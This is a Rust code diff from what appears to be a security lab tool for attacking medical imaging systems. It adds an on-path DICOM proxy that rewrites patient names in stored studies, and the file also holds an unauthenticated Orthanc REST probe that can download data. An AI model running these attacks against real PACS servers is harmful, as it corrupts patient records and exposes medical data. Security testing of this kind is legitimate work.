@@ -44,6 +44,29 @@ impl RestArgs {
 
 #[derive(Debug, Subcommand)]
 pub enum AttackCommand {
+    /// An on-path DICOM proxy: forwards PDUs both ways and rewrites PatientName in the data
+    /// sets of C-STORE requests (lengths recomputed, re-fragmented at the negotiated max
+    /// PDU). TLS is forwarded untouched. Prints {"event":"listening"} first and the summary
+    /// at SIGTERM or after --max-secs.
+    #[command(
+        after_help = "Example:\n  lab-agent proxy --listen 0.0.0.0:4242 --upstream pacs:4242 --rewrite-patient 'ATTACKER^EVE' --max-secs 60"
+    )]
+    Proxy {
+        #[arg(long, default_value = "0.0.0.0:4242")]
+        listen: String,
+        /// host:port of the real PACS.
+        #[arg(long)]
+        upstream: String,
+        /// The PatientName written into every stored data set.
+        #[arg(long, default_value = "ATTACKER^EVE")]
+        rewrite_patient: String,
+        /// Stop after this many seconds (at most 3600).
+        #[arg(long, default_value_t = 60, value_parser = clap::value_parser!(u64).range(1..=3600))]
+        max_secs: u64,
+        /// Drop an association idle for this many seconds.
+        #[arg(long, default_value_t = 30)]
+        idle_secs: u64,
+    },
     /// Read Orthanc's REST API without (or with given) credentials: /system, /patients,
     /// /instances, and with --download the first instance's file and tags.
     #[command(
@@ -194,8 +217,46 @@ pub fn finish(r: Result<Value, (Value, AgentError)>) -> ExitCode {
     }
 }
 
+fn runtime() -> tokio::runtime::Runtime {
+    tokio::runtime::Builder::new_multi_thread()
+        .worker_threads(2)
+        .enable_all()
+        .build()
+        .expect("cannot start the async runtime")
+}
+
 pub fn run(cmd: AttackCommand) -> ExitCode {
     match cmd {
+        AttackCommand::Proxy {
+            listen,
+            upstream,
+            rewrite_patient,
+            max_secs,
+            idle_secs,
+        } => {
+            if rewrite_patient.len() > 64 || !rewrite_patient.is_ascii() {
+                return finish(Err((
+                    json!({"action": "proxy"}),
+                    AgentError::other("--rewrite-patient: at most 64 ASCII characters"),
+                )));
+            }
+            let rt = runtime();
+            let signal = {
+                let _g = rt.enter();
+                crate::cli::shutdown_signal()
+            };
+            let opts = super::proxy::ProxyOptions {
+                listen,
+                upstream,
+                new_name: rewrite_patient,
+                max_time: Duration::from_secs(max_secs),
+                idle_timeout: Duration::from_secs(idle_secs.clamp(1, 600)),
+            };
+            match rt.block_on(super::proxy::run(opts, signal, emit)) {
+                Ok(v) => finish(Ok(v)),
+                Err(e) => finish(Err((json!({"action": "proxy"}), AgentError::other(e)))),
+            }
+        }
         AttackCommand::RestProbe { rest, download } => match rest.client() {
             Ok(r) => finish(rest::probe(&r, download)),
             Err(e) => finish(Err((json!({"action": "rest-probe"}), e))),
